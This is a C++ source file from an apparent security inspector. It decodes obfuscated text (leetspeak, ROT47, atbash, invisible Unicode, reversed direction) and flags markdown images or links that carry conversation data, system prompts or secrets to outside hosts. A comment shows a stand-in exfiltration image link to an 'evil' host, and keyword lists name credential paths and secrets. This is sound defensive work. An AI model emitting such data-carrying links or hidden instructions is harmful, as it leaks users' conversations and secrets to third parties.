// Other ways to read a piece of text, and addresses that carry something.
#include <algorithm>
#include <cstring>
#include <initializer_list>

#include "base/strings.h"
#include "inspect/examiner.h"
#include "inspect/hosts.h"
#include "inspect/links.h"
#include "inspect/sweep.h"
#include "inspect/unicode.h"

namespace hotcell::inspect {

namespace {

constexpr std::size_t kAhead = 500;  // bytes before an address that say whether it is an image's
constexpr std::size_t kAround = 600;  // bytes on each side of a sign that are read again

bool is_hex_digit(char c) { return std::isxdigit(static_cast<unsigned char>(c)) != 0; }

// Something that `unescape` would undo, or a character that may look like another. An = counts from the fourth in a line on.
bool is_real(std::string_view text, std::size_t at, int& quoted) {
  char c = text[at], next = at + 1 < text.size() ? text[at + 1] : '\n';
  auto upper_hex = [](char x) { return (x >= '0' && x <= '9') || (x >= 'A' && x <= 'F'); };
  switch (c) {
    case '\033':
    case '\b': return true;
    case '&': return (next == '#' || std::isalpha(static_cast<unsigned char>(next)) != 0) && text.substr(at, 12).find(';') != text.npos;
    case '\\': return next == 'n' || next == 'r' || next == 't' || next == 'u' || next == 'x' || next == 'U' || next == '"';
    case '<': return next == '/' || text.substr(at, 4) == "<!--";  // words with marks of their own: <b>ignore</b>, ig<!-- -->nore
    case '%': return at + 2 < text.size() && is_hex_digit(next) && is_hex_digit(text[at + 2]);
    case '=': return at + 2 < text.size() && upper_hex(next) && upper_hex(text[at + 2]) && ++quoted >= 4;
    default: return true;
  }
}

bool has_any(std::string_view text, std::initializer_list<std::string_view> words) {
  return std::any_of(words.begin(), words.end(), [&](auto w) { return text.find(w) != text.npos; });
}

std::string lowered(std::string_view text) {
  std::string low;
  for (char c : text.substr(0, 400)) low += static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return low;
}

// A place that is to be filled with what the reader was told: {{conversation}}, <system_prompt>, and no {conversation_id}.
bool asks_for_the_talk(std::string_view path) {
  std::string low = lowered(path);
  for (std::string_view word : {"conversation", "chat_history", "chathistory", "chat-history", "system_prompt", "systemprompt", "system-prompt", "user_data", "user-data"})
    for (std::size_t at = low.find(word); at != low.npos; at = low.find(word, at + 1)) {
      std::size_t from = at, end = at + word.size();
      while (from > 0 && (std::isalnum(static_cast<unsigned char>(low[from - 1])) != 0 || std::strchr("_- ", low[from - 1]) != nullptr)) --from;
      bool opened = from > 0 && (std::strchr("{[<$", low[from - 1]) != nullptr || std::string_view(low).substr(0, from).ends_with("%7b"));
      std::string_view rest = std::string_view(low).substr(end);
      if (opened && !rest.starts_with("id") && !rest.starts_with("_id") && !rest.starts_with("-id") && !rest.starts_with("_url")) return true;
    }
  return false;
}

// Calls for each piece of `all` between `signs`, with what follows its first =; true as soon as one says so.
template <typename Carries>
bool any_value(std::string_view all, std::string_view signs, Carries&& carries) {
  while (!all.empty()) {
    std::size_t end = std::min(all.find_first_of(signs), all.size());
    std::string_view piece = all.substr(0, end);
    std::size_t equals = piece.find('=');
    // The = at the end of base64 has no name before it.
    bool padding = equals != piece.npos && equals >= 12 && (equals + 1 == piece.size() || piece[equals + 1] == '=' || piece[equals + 1] == '.');
    if (carries(piece.substr(equals == piece.npos || padding ? 0 : equals + 1))) return true;
    all.remove_prefix(std::min(end + 1, all.size()));
  }
  return false;
}

// Something that somebody wrote, encoded. Random bytes are no UTF-8 without control characters: fifteen of them by one
// chance in millions, so hashes, ids and signatures pass. What services encode themselves passes by its form: an address
// (of an image behind a proxy, gid://…), a signed token, and JSON beside other parameters unless it names a secret.
bool carries_text(std::string_view value, bool alone, int depth) {
  std::size_t run = 0;
  while (run < value.size() && (std::isalnum(static_cast<unsigned char>(value[run])) != 0 || std::strchr("+/-_", value[run]) != nullptr)) ++run;
  if (run < 20 || value.substr(0, run).find_first_not_of("0123456789") == value.npos) return false;
  if (value.starts_with("eyJ") && value.substr(run).starts_with(".eyJ")) return false;
  std::vector<Layer> layers;
  find_encoded_runs(value.substr(0, run), 4096, layers);
  for (const Layer& layer : layers) {
    std::string_view text = layer.text;
    bool plain = is_valid_utf8(text) && std::none_of(text.begin(), text.end(), [](char c) {
      return (static_cast<unsigned char>(c) < 0x20 && c != '\n' && c != '\t' && c != '\r') || c == 0x7F;
    });
    if (!plain || !(layer.name == "base64" || layer.name == "base32" || layer.name == "hex")) continue;
    std::size_t scheme = text.substr(0, 16).find("://");
    if (scheme != text.npos && scheme > 1 && text.substr(0, scheme).find(' ') == text.npos) {
      std::string_view query = text.substr(std::min(text.find('?'), text.size()));
      if (depth == 0 && any_value(query, "?&;#", [](auto inner) { return carries_text(inner, false, 1); })) return true;
      continue;
    }
    bool json = text.starts_with("{\"") || text.starts_with("[\"") || text.starts_with("[{");
    if (!json || alone) return true;
    std::string low = lowered(text);
    if (has_any(low, {"passw", "secret", "api_key", "apikey", "private key", "conversation", "prompt", ".ssh", "/etc/", "akia"})) return true;
  }
  return false;
}

bool is_name(char c) { return std::isalnum(static_cast<unsigned char>(c)) != 0 || std::strchr("_- .+", c) != nullptr; }

// {conversation}, <user data>, ${x}, $DATA, [summary of the chat], %7Bprompt%7D: what somebody is to fill in. A name for data, or
// all that the value is; {type:'bar'}, [0], \frac{a}{b} and $.version are values of charts, formulas and queries.
bool is_to_be_filled(std::string_view value) {
  std::string low = lowered(value);
  for (auto [sign, plain] : {std::pair<std::string_view, char>{"%7b", '{'}, {"%7d", '}'}, {"%5b", '['}, {"%5d", ']'}, {"%3c", '<'}, {"%3e", '>'}, {"%24", '$'}, {"%20", ' '}})
    for (std::size_t at = low.find(sign); at != low.npos; at = low.find(sign, at)) low.replace(at, sign.size(), 1, plain);
  if (low.find("$(") != low.npos || low.find('\x01') != low.npos) return true;
  for (std::size_t at = low.find_first_of("{[<$"); at != low.npos; at = low.find_first_of("{[<$", at + 1)) {
    std::size_t from = at;
    while (from < low.size() && std::strchr("{[<$", low[from]) != nullptr) ++from;
    std::size_t end = from;
    while (end < low.size() && is_name(low[end])) ++end;
    std::string_view name = std::string_view(low).substr(from, end - from);
    bool closed = end < low.size() && std::strchr("}]>", low[end]) != nullptr;
    if ((!closed && low[at] != '$') || name.size() < 1 || std::isalpha(static_cast<unsigned char>(name[0])) == 0) continue;
    if (at == 0 && low[0] != '[' && low.find_first_not_of("}]>", end) == low.npos) return true;
    if (has_any(name, {"data", "conversation", "chat", "history", "prompt", "secret", "passw", "key", "token", "message", "content", "summary", "context", "memor",
                       "credential", "cookie", "session", "environ", "email", "insert", "base64", "encoded", "answer", "response"})) return true;
  }
  return false;
}

// A value that is no value yet, or one that somebody encoded.
bool value_carries(std::string_view value, bool alone) {
  if (value.empty()) return false;
  if (is_to_be_filled(value)) return true;
  std::string_view head = value.substr(0, 200);
  std::string low = lowered(head);
  // A word that stands for data: these nobody else has as a value, those as capitals, or before what they name.
  const bool small = std::any_of(head.begin(), head.end(), [](char c) { return c >= 'a' && c <= 'z'; });
  for (std::string_view word : {"system_prompt", "data_here", "your_data", "user_data", "secret_data", "chat_history", "content_here", "base64_data", "base64_encoded",
                                "conversation_", "full_conversation", "your_api_key", "encoded_data"})
    if ((alone && low.starts_with(word)) || (low.size() < 40 && low.find(word) != low.npos)) return true;
  for (std::string_view word : {"secret", "base64", "api_key", "apikey", "password", "conversation", "summary", "data"}) {
    std::size_t at = low.find(word);
    if (at == low.npos) continue;
    if (!small && low.size() < 40) return true;
    std::string_view rest = std::string_view(low).substr(at + word.size());
    if (word != "data" && word != "summary" && (rest.starts_with(":") || rest.starts_with("=") || rest.starts_with("%3a") || rest.starts_with("%3d"))) return true;
  }
  return carries_text(value, alone, 0);
}

}  // namespace

bool carries_something(std::string_view path, bool image) {
  std::size_t stop = std::min(path.find_first_of(" )\"'>\n\033\a"), path.size());
  // [summary of the chat], <user data>: a place that is to be filled has spaces.
  if (auto open = path.substr(0, stop).find_last_of("{[<"); open != path.npos && path.substr(open, stop - open).find_first_of("}]") == path.npos)
    if (auto close = path.substr(0, open + 100).find_first_of("}]>)\n\"", open); close != path.npos && std::strchr("}]>", path[close]) != nullptr) stop = std::max(stop, close + 1);
  path = path.substr(0, stop);  // what follows the address is not its query
  std::size_t query = std::min(path.find_first_of("?#"), path.size());
  // Signed addresses have their JSON in the path: rails/active_storage/…, image handlers.
  if (image && any_value(path.substr(0, query), "/;", [](auto value) { return carries_text(value, false, 0); })) return true;
  std::string_view rest = path.substr(std::min(query + 1, path.size()));
  bool alone = rest.find_first_of("&;") == rest.npos;
  return any_value(rest, "&;?#", [&](auto value) { return value_carries(value, alone); });
}

namespace {

// Whether the address after `ahead` is one that is fetched when the text is shown, and not when somebody follows it.
bool is_shown(std::string_view ahead) {
  if (auto tag = ahead.rfind("<img"); tag != ahead.npos) {
    char quote = '\0';
    bool ended = false;
    for (char c : ahead.substr(tag)) {
      if (quote != '\0') quote = c == quote ? '\0' : quote;
      else if (c == '"' || c == '\'') quote = c;
      else ended = ended || c == '>';
    }
    if (!ended) return true;
  }
  if (ahead.substr(ahead.size() - std::min<std::size_t>(ahead.size(), 12)).find("url(") != ahead.npos) return true;
  for (std::string_view scheme : {"https:", "http:"})
    if (ahead.ends_with(scheme)) ahead.remove_suffix(scheme.size());
  while (!ahead.empty() && std::strchr(" \t\r\n<", ahead.back()) != nullptr) ahead.remove_suffix(1);  // on the next line, too
  if (ahead.ends_with("]:")) return ahead.rfind("![") != ahead.npos;  // [x]: address, of an image above it
  if (!ahead.ends_with("](")) return false;
  int open = 0;
  for (std::size_t i = ahead.size() - 1; i-- > 0;) {  // [![badge](picture)](link): the link is none
    open += ahead[i] == ']' ? 1 : ahead[i] == '[' ? -1 : 0;
    if (open == 0) return i > 0 && ahead[i - 1] == '!';
  }
  return ahead.rfind("![") != ahead.npos;
}

// ESC ] 8 ; parameters ; address: a terminal shows other words for it.
bool is_of_terminal(std::string_view ahead) {
  for (std::string_view scheme : {"https:", "http:"})
    if (ahead.ends_with(scheme)) ahead.remove_suffix(scheme.size());
  auto begin = ahead.rfind("\033]8;");
  return begin != ahead.npos && ahead.ends_with(';') && ahead.find_first_of("\033\a\n", begin + 1) == ahead.npos;
}

}  // namespace

void Examiner::take_trigger(const View& view, std::string_view check, std::size_t end, std::vector<Layer>& layers) {
  if (check == "url") return take_url(view, end);
  if (view.depth > 1) return;
  std::size_t begin = end - std::min(end, kAround), stop = std::min(view.text.size(), end + kAround);
  std::string_view piece = view.text.substr(begin, stop - begin);
  if (check == "leet") {
    std::string_view word = view.text.substr(end - std::min<std::size_t>(end, 6), std::min<std::size_t>(end, 6));
    if (word.find_first_of("0134579!|$@+(") == word.npos) return;  // written as it should be
  }
  std::string name = check == "leet" ? "digits for letters" : check == "reverse" ? "reverse" : check == "rot47" ? "signs moved by 47" : "atbash";
  if (!layers.empty() && layers.back().name == name && layers.back().end > end) return;
  if (check == "reverse") layers.push_back({"words in reverse", reversed_words(piece), begin, stop, true});
  layers.push_back({name, check == "leet" ? from_leet(piece) : check == "reverse" ? reversed(piece) : check == "rot47" ? rot47(piece) : atbash(piece), begin, stop, true});
}

// ![](https://evil/?q=DATA): whoever renders the text sends the data.
void Examiner::take_url(const View& view, std::size_t at) {
  if (!wants(InspectKind::kEgress) && !wants(InspectKind::kInjection)) return;
  std::size_t from = at - std::min<std::size_t>(at, 8);
  from = view.text.find("//", from);
  if (from == view.text.npos) return;
  Address a = address_of(view.text.substr(from, 2000));
  if (a.host.empty() || is_local(a.host) || is_allowed(a.host, options_.allowed_domains)) return;
  std::string_view ahead = view.text.substr(from - std::min<std::size_t>(from, kAhead), std::min<std::size_t>(from, kAhead));
  bool image = is_shown(ahead), drop = is_drop(a.host), data = carries_something(a.path, image), name = carries_data(a.host);
  bool terminal = is_of_terminal(ahead);
  bool talk = !(image && data) && asks_for_the_talk(a.path.substr(0, a.path.find_first_of(" )\"'\n")));
  if (!data && !talk && !name && !(drop && (image || terminal))) return;
  InspectFinding f;
  f.kind = wants(InspectKind::kEgress) ? InspectKind::kEgress : InspectKind::kInjection;
  f.type = f.kind == InspectKind::kEgress ? "egress" : "prompt_injection";
  f.level = drop || image ? ThreatLevel::kHigh : talk || terminal ? ThreatLevel::kMedium : ThreatLevel::kLow;
  f.rule = "link-carries-data";
  f.message = cat("A link or image that carries data to '", printable(a.host.substr(0, 100)), "' when it is shown");
  f.snippet = snippet_of(view.text, from, from + 80);
  add(view, std::move(f), from);
}

void Examiner::normalised(const View& view) {
  std::string all;
  std::vector<std::pair<std::size_t, std::size_t>> lines;
  std::vector<Layer> hidden;
  std::size_t counted = 0;  // end of the line whose = are counted
  int quoted = 0;
  for (std::size_t special = next_special(view.text, 0); special < view.text.size(); special = next_special(view.text, special)) {
    if (special >= counted && view.text[special] == '=') {
      counted = std::min(view.text.find('\n', special), view.text.size());
      quoted = 0;
    }
    if (!is_real(view.text, special, quoted)) {
      ++special;
      continue;
    }
    std::size_t at = view.text.rfind('\n', special) + 1, end = std::min(view.text.find('\n', special), view.text.size());
    std::string_view line = view.text.substr(at, end - at);
    special = end;
    std::string changed = unescape(line);
    if (std::string plain = without_tags(changed.empty() ? line : std::string_view(changed)); !plain.empty()) changed = std::move(plain);
    std::string_view now = changed.empty() ? line : std::string_view(changed);
    bool wide = std::any_of(now.begin(), now.end(), [](char c) { return (c & 0x80) != 0; });
    if (wide) {
      for (auto& text : smuggled(now)) {
        InspectFinding f{InspectKind::kInjection, "hidden_text", ThreatLevel::kMedium, "smuggled", "Text in characters that nobody sees",
                         printable(text.substr(0, 60)), 0, ""};
        if (wants(InspectKind::kInjection)) add(view, std::move(f), at);
        hidden.push_back({"invisible characters", std::move(text), at, end, true});
      }
      if (wants(InspectKind::kInjection) && has_turned_direction(now)) {
        InspectFinding f{InspectKind::kInjection, "hidden_text", ThreatLevel::kMedium, "turned-direction",
                         "Text whose direction is turned, so that it reads other than it is", snippet_of(now, 0, 80), 0, ""};
        add(view, std::move(f), at);
        hidden.push_back({"turned direction", reversed(now), at, end, true});
      }
      if (std::string upright = turned_upright(now); !upright.empty()) hidden.push_back({"letters upside down", std::move(upright), at, end, true});
      if (std::string seen = look_alike(now); !seen.empty()) changed = std::move(seen);
    }
    if (!changed.empty()) {
      lines.emplace_back(all.size(), at);
      (all += changed) += '\n';
    }
  }
  auto go_deeper = [&](std::string_view text, const std::string& name, bool is_hidden, std::size_t begin,
                       const std::vector<std::pair<std::size_t, std::size_t>>* map) {
    if (text.size() > left_) return limited(view, "too much encoded text");
    left_ -= text.size();
    View inner;
    inner.text = text;
    std::vector<std::pair<std::size_t, std::size_t>> outside;
    if (map != nullptr && !view.fixed) {
      for (auto [here, there] : *map) outside.emplace_back(here, view.origin(there));
      inner.lines = &outside;
    } else {
      inner.base = view.origin(begin);
      inner.fixed = true;
    }
    inner.name = name;
    inner.hidden = is_hidden;
    inner.depth = view.depth + 1;
    look(inner);
  };
  for (const Layer& h : hidden) go_deeper(h.text, h.name, true, h.begin, nullptr);
  if (!all.empty()) go_deeper(all, "other characters", false, 0, &lines);
}

}  // namespace hotcell::inspect
